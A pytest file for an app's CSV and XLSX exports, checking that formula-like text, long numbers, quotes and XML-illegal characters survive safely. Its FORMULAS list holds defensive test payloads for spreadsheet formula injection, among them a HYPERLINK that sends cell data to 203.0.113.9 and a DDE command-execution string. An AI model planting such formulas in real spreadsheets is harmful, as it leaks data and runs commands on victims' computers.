"""Text stays text: a name cannot inject a formula, and digits of account numbers and the like are not lost."""

from typing import Any
from xml.etree import ElementTree

import pytest

from countinghouse.exports import xlsx_file
from tests.desk import Desk
from tests.engines import on_one_engine
from tests.exports.downloads import download, read_csv, read_sheets

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"Pay here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001 - the wide forms are what is tested
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "﹦1+1",
]
IDENTIFIERS = ["0012", "0", "004512345678", "123456789012345678", "000000000000000000", "9" * 40]
HARMLESS = ["Ananya Iyer", "14 MG Road, Kochi", "O'Brien", "98057 56092", "a=b", "#5", "(=1)", "अनन्या", "१२३", "12th"]


@on_one_engine
@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_stays_text_in_both_formats(desk: Desk, text: str) -> None:
    desk.add_claim(address=text)
    assert read_csv(download(desk))[1][9] == f"'{text}"
    (sheet,) = read_sheets(download(desk, form="xlsx"))
    assert (sheet["J2"].data_type, sheet["J2"].value) == ("s", text)


@on_one_engine
@pytest.mark.parametrize("number", IDENTIFIERS)
def test_leading_zeros_and_long_numbers_survive(desk: Desk, number: str) -> None:
    desk.add_claim(account_no=number)
    assert read_csv(download(desk))[1][6] == f'="{number}"'
    (sheet,) = read_sheets(download(desk, form="xlsx"))
    assert (sheet["G2"].data_type, sheet["G2"].value) == ("s", number)


def test_digits_of_every_text_column_survive(desk: Desk) -> None:
    desk.add_purchase(upi_id="0063190234567890123", qr_name="007", claim_type="01")
    row = read_csv(download(desk, "purchases"))[1]
    assert row[3] == '="0980575609"'
    assert row[6:9] == ['="0063190234567890123"', '="01"', '="007"']


@on_one_engine
@pytest.mark.parametrize("text", ["12E45", "1-2", "12/5", "10:30", "1,50", "1.10", "1 1/2", "9" * 300])
def test_text_that_looks_like_a_number_or_a_date_stays_text(desk: Desk, text: str) -> None:
    desk.add_claim(address=text)
    assert read_csv(download(desk))[1][9] == f"'{text}"


@on_one_engine
@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_unchanged(desk: Desk, text: str) -> None:
    desk.add_claim(address=text)
    assert read_csv(download(desk))[1][9] == text


@on_one_engine
@pytest.mark.parametrize("text", ['"', '""', ",", "a\r\nb", 'a"b,c', '","=1+1'])
def test_delimiters_and_quotes_in_text_do_not_break_cells(desk: Desk, text: str) -> None:
    desk.add_claim(address=text)
    header, row = read_csv(download(desk))
    assert len(row) == len(header)
    assert row[9] == text


def test_characters_not_allowed_in_xml_are_replaced(desk: Desk) -> None:
    desk.add_claim(address="a\x01b\x1fc\ufffed")
    (sheet,) = read_sheets(download(desk, form="xlsx"))
    assert sheet["J2"].value == "a\ufffdb\ufffdc\ufffdd"


@pytest.mark.parametrize("text", ["a & b < c > d", "]]>", "_x0041_", "  edges  ", "two\nlines", "a\rb"])
def test_xml_and_excel_escapes_round_trip(text: str) -> None:
    cell = ElementTree.fromstring(xlsx_file._text("A1", text))  # noqa: S314 - our own
    inner: Any = cell.find("is/t")
    assert inner.text.replace("_x005F_", "_") == text
    assert ("_x005F_" in inner.text) == ("_x0041_" in text)


@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
def test_rows_beyond_the_row_limit_continue_in_the_next_sheet(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "ROWS_A_SHEET", 3)
    for number in range(7):
        desk.add_user(username=f"user {number}")
    sheets = read_sheets(download(desk, "users", "xlsx", sort="username"))
    assert [sheet.title for sheet in sheets] == ["Users", "Users 2", "Users 3"]
    assert [sheet.max_row for sheet in sheets] == [4, 4, 2]
    assert {sheet["B1"].value for sheet in sheets} == {"User Name"}
    assert {sheet.freeze_panes for sheet in sheets} == {"A2"}
    names = [row[1] for sheet in sheets for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == [f"user {number}" for number in range(7)]


@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
def test_a_sheet_too_large_for_zip_without_zip64_continues_in_the_next(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx_file, "BYTES_A_SHEET", 1)
    desk.add_user()
    assert [sheet.max_row for sheet in read_sheets(download(desk, "users", "xlsx"))] == [1, 2]
